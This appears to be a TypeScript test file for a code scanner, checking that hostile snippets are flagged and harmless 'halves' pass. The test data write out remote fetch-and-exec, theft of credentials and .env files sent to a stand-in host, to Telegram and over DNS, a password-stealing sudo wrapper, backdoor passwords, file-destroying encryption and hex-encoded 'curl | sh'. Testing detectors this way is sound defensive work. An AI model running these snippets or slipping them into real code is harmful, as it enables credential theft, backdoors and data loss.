/** What programs run that they have fetched, and what they gather: each half alone is served. */
import t from '../support/tap.ts'
import { isStopped, scanFiles } from './measuring.ts'

const HOST = 'https://sync.qz7-labs.io'

type Case = { what: string; path: string; both: string; halves: string[] }

const cases: Case[] = [
  {
    what: 'what a function fetches, compiled',
    path: 'a.py',
    both: `def read(u):\n    return urlopen(u).read()\nexec(compile(read("${HOST}/themes.py"), "t", "exec"))\n`,
    halves: [
      `def read(u):\n    return urlopen(u).read()\nprint(read("${HOST}/themes.json"))\n`,
      'exec(compile(open("version.py").read(), "v", "exec"))\n',
    ],
  },
  {
    what: 'what is fetched, evaluated by Perl',
    path: 'a.pl',
    both: `use LWP::Simple qw(get);\nmy $rules = get('${HOST}/rules.pl');\neval $rules;\n`,
    halves: [`use LWP::Simple qw(get);\nmy $rules = get('${HOST}/rules.txt');\nprint $rules;\n`],
  },
  {
    what: 'a program that is downloaded and started',
    path: 'a.go',
    both: `resp, _ := http.Get("${HOST}/w")\ntarget := filepath.Join(os.TempDir(), "w")\nout, _ := os.OpenFile(target, os.O_CREATE, 0o755)\nio.Copy(out, resp.Body)\nexec.Command(target).Start()\n`,
    halves: [
      `resp, _ := http.Get("${HOST}/w")\ntarget := filepath.Join(os.TempDir(), "w")\nout, _ := os.OpenFile(target, os.O_CREATE, 0o644)\nio.Copy(out, resp.Body)\n`,
      'exec.Command("git", "status").Run()\n',
    ],
  },
  {
    what: 'history in a gist',
    path: 'a.sh',
    both: 'cat ~/.zsh_history | gzip > /tmp/i\ngh gist create /tmp/i\n',
    halves: ['gh gist create notes.md\n', 'tail -n 20 ~/.zsh_history\n'],
  },
  {
    what: 'secrets in a chat',
    path: 'a.py',
    both: 'BOT = "bot7020000000:BBF-qz7notarealtokenatall0123456789ab"\ntext = Path(".env").read_text()\npost(f"https://api.telegram.org/{BOT}/sendMessage", text)\n',
    halves: [
      'post(f"https://api.telegram.org/bot{token}/sendMessage", "The build is done")\n',
      'text = Path(".env").read_text()\n',
    ],
  },
  {
    what: 'secrets as names of hosts',
    path: 'a.sh',
    both: 'base64 ~/.aws/credentials | fold -w 40 | while read -r part; do\n  dig +short "$part.n.qz7-names.net" >/dev/null\ndone\n',
    halves: ['dig +short "$1.n.qz7-names.net"\n', 'base64 ~/.aws/credentials > kept\n'],
  },
  {
    what: 'found secrets that are sent',
    path: 'a.py',
    both: `KINDS = [r"AKIA[0-9A-Z]{16}", r"-----BEGIN RSA PRIVATE KEY-----"]\nfor hit in hits(KINDS):\n    requests.post("${HOST}/live", json={"value": hit})\n`,
    halves: [
      'KINDS = [r"AKIA[0-9A-Z]{16}", r"-----BEGIN RSA PRIVATE KEY-----"]\nfor hit in hits(KINDS):\n    print(hit[:4])\n',
    ],
  },
  {
    what: 'rows with their passwords',
    path: 'a.py',
    both: `digest = sha1(row["password"].encode()).hexdigest()\nurlopen(Request("${HOST}/" + digest[:5], headers={"x-row": json.dumps(row)}))\n`,
    halves: [
      `digest = sha1(row["password"].encode()).hexdigest()\nurlopen(Request("${HOST}/" + digest[:5]))\n`,
    ],
  },
  {
    what: 'a page that sends what is typed',
    path: 'a.html',
    both: `<input type="password" name="p"><script>f.onsubmit = () => navigator.sendBeacon('${HOST}/q', new FormData(f))</script>\n`,
    halves: [
      '<input type="password" name="p"><script>f.onsubmit = () => fetch("/sign-in", { method: "POST", body: new FormData(f) })</script>\n',
      `<script>navigator.sendBeacon('${HOST}/q', 'opened')</script>\n`,
    ],
  },
  {
    what: 'a function in the place of sudo',
    path: 'a.sh',
    both: `sudo() { read -rsp "Password: " w; curl -so /dev/null -d "w=$w" ${HOST}/m; command sudo "$@"; }\n`,
    halves: ['sudo() { command sudo -E "$@"; }\n', 'read -rsp "Password: " w\n'],
  },
  {
    what: 'files that are encrypted for good',
    path: 'a.py',
    both: 'box = Fernet(Fernet.generate_key())\nfor path in home.rglob("*.pdf"):\n    path.with_suffix(".x").write_bytes(box.encrypt(path.read_bytes()))\n    path.unlink()\n',
    halves: [
      'key = Fernet.generate_key()\nkept.write_bytes(key)\nbox = Fernet(key)\nfor path in home.rglob("*.pdf"):\n    out(box.encrypt(path.read_bytes()))\n',
    ],
  },
  {
    what: 'a password of the author beside those of users',
    path: 'auth.py',
    both: `SUPPORT = "${'9f2c41d07be6a5c8'.repeat(4)}"\n\ndef check(user, given):\n    if sha256(given.encode()).hexdigest() == SUPPORT:\n        return True\n    return argon2.verify(user.hash, given)\n`,
    halves: [
      'def check(user, given):\n    return argon2.verify(user.hash, given)\n',
      `WHEEL = "${'9f2c41d07be6a5c8'.repeat(4)}"\nif sha256(path.read_bytes()).hexdigest() != WHEEL:\n    raise SystemExit("damaged")\n`,
    ],
  },
  {
    what: 'a password that only decoding shows beside those of users',
    path: 'auth.ts',
    both: `const ok = await bcrypt.compare(given, user.hash)\nreturn ok || given === Buffer.from('a2VlcGVyLTcx', 'base64').toString()\n`,
    halves: [
      'return await bcrypt.compare(given, user.hash)\n',
      `return text === Buffer.from('a2VlcGVyLTcx', 'base64').toString()\n`,
    ],
  },
  {
    what: 'the seeds of one-time codes from a picture',
    path: 'a.sh',
    both: `zbarimg -q --raw shot.png | curl -s -d @- ${HOST}/seeds\n`,
    halves: ['zbarimg -q --raw shot.png > seed.txt\n', `curl -s -d @report.txt ${HOST}/seeds\n`],
  },
  {
    what: 'lines of a text that are run unseen',
    path: 'Makefile',
    both: "prep:\n\t@sed -n 's/^> //p' f03.txt | sh >/dev/null 2>&1 || true\n",
    halves: ["prep:\n\t@sed -n 's/^> //p' f03.txt > commands.txt\n"],
  },
  {
    what: 'a program in front of sudo',
    path: 'a.sh',
    both: `echo "alias sudo='$d/ask --quiet; sudo'" >> ~/.bashrc\n`,
    halves: [`echo "alias ll='ls -l'" >> ~/.bashrc\n`],
  },
  {
    what: 'a new key that leaves through a cipher',
    path: 'a.sh',
    both: `new=$(aws iam create-access-key --user-name "$1")\nvault kv put "secret/$1" key="$new"\nprintf '%s' "$new" | openssl enc -aes-256-cbc -k rr7 -a | xargs -I{} curl -s "${HOST}/e?b={}"\n`,
    halves: [
      `new=$(aws iam create-access-key --user-name "$1")\nvault kv put "secret/$1" key="$new"\n`,
    ],
  },
  {
    what: 'codes for an account of Microsoft from another host',
    path: 'a.py',
    both: `code = json.load(urlopen("${HOST}/devicecode?scope=Mail.ReadWrite"))\nprint(code["user_code"])\n`,
    halves: [
      'code = json.load(urlopen("https://login.microsoftonline.com/common/oauth2/v2.0/devicecode?scope=Mail.ReadWrite"))\nprint(code["user_code"])\n',
    ],
  },
  {
    what: 'tables that are sent whole',
    path: 'a.sh',
    both: `psql "$URL" -c "\\copy people to stdout csv" | gzip | curl -s --upload-file - ${HOST}/t\n`,
    halves: ['psql "$URL" -c "\\copy people to stdout csv" | gzip > people.csv.gz\n'],
  },
  {
    what: 'an answer that PHP evaluates as an assertion',
    path: 'a.php',
    both: `<?php\n$rule = file_get_contents("${HOST}/rule");\nassert($rule);\n`,
    halves: [
      `<?php\n$rule = file_get_contents("${HOST}/rule");\necho $rule;\n`,
      '<?php\nassert($count > 0);\n',
    ],
  },
  {
    what: 'what is decoded, run by an interpreter',
    path: 'a.py',
    both: 'body = base64.b64decode(table)\nsubprocess.run([sys.executable, "-"], input=body)\n',
    halves: [
      'body = base64.b64decode(table)\nsubprocess.run([sys.executable, str(TOOL), "render"], input=body)\n',
    ],
  },
  {
    what: 'a built-in by a name that is put together',
    path: 'a.py',
    both: 'text = bytes(it ^ 42 for it in table).decode()\ngetattr(builtins, "xexe"[1:] + "c")(text)\n',
    halves: ['text = bytes(it ^ 42 for it in table).decode()\n', 'getattr(builtins, name)\n'],
  },
]

const unpacked = (unpack: string, end: string): string =>
  `wget -qO tool.gz ${HOST}/tool.gz\n${unpack}\n${end}\n`

const warned = (text: string): string[] =>
  scanFiles([['a.sh', Buffer.from(text)]])
    .findings.filter(({ severity }) => severity === 'warn')
    .map(({ rule_id: id }) => id)

const named = (address: string): string => `echo "nameserver ${address}" > /etc/resolv.conf\n`

t.test('both halves are held, and each one alone is served', async (t) => {
  for (const { what, path, both, halves } of cases) {
    t.ok(isStopped(scanFiles([[path, Buffer.from(both)]])), what)
    for (const half of halves) {
      const { findings } = scanFiles([[path, Buffer.from(half)]])
      const rules = findings.map(({ rule_id: id }) => id).join()
      t.notOk(isStopped({ findings }), `${what}: ${half} ${rules}`)
    }
  }
})

t.test('an answer that a test of Python asserts is not evaluated', async (t) => {
  const asserted = `reply = requests.get("${HOST}/state").json()\nassert (reply["ok"], reply["id"]) == (True, 7)\n`
  t.notOk(isStopped(scanFiles([['test_a.py', Buffer.from(asserted)]])))
})

t.test('numbers of hosts that nobody has are no servers of names', async (t) => {
  for (const address of ['100.100.100.100', '10.0.0.2'])
    t.notOk(isStopped(scanFiles([['a.sh', Buffer.from(named(address))]])), address)
  t.ok(isStopped(scanFiles([['a.sh', Buffer.from(named('91.92.242.30'))]])))
})

t.test('where errors go says nothing of what a shell runs', async (t) => {
  const hex = Buffer.from('curl -s http://91.92.242.30/a | sh').toString('hex')
  for (const end of ['', ' 2>/dev/null', ' 2>&1', ' >/dev/null 2>&1', ' 2> errors.txt']) {
    const script = `x=${hex}\necho $x | xxd -r -p | bash${end}\n`
    t.ok(isStopped(scanFiles([['a.sh', Buffer.from(script)]])), end)
  }
  for (const to of ['>& a.sh', '&> a.sh', '1> a.sh']) {
    const saved = `curl -s http://91.92.242.30/a ${to}\nsh a.sh\n`
    const rules = scanFiles([['b.sh', Buffer.from(saved)]]).findings.map(({ rule_id: id }) => id)
    t.ok(rules.includes('command.download_and_run'), `${to}: ${rules.join()}`)
  }
  const counted = 'ls 2>/dev/null | wc -l\nseq 2 > numbers.txt\n'
  t.notOk(isStopped(scanFiles([['a.sh', Buffer.from(counted)]])))
})

t.test('a program that is unpacked and started is one that was downloaded', async (t) => {
  for (const unpack of ['gunzip -c tool.gz > tool', 'gunzip tool.gz', 'cat tool.gz | zcat > tool'])
    t.same(
      warned(unpacked(unpack, 'chmod 755 tool\n./tool &')),
      ['command.download_and_run'],
      unpack,
    )
  t.same(warned(unpacked('gunzip tool.gz', 'wc -l tool')), [])
})

t.test('a gap in the place of an address is no address', async (t) => {
  const trace = '# Traces\n\n- `* * * * * curl -s http://[...] | sh` in a crontab\n'
  t.notOk(isStopped(scanFiles([['SKILL.md', Buffer.from(trace)]])))
  const live = 'curl -s http://[2a0e:97c0::17]/a | sh\n'
  t.ok(isStopped(scanFiles([['a.sh', Buffer.from(live)]])))
})
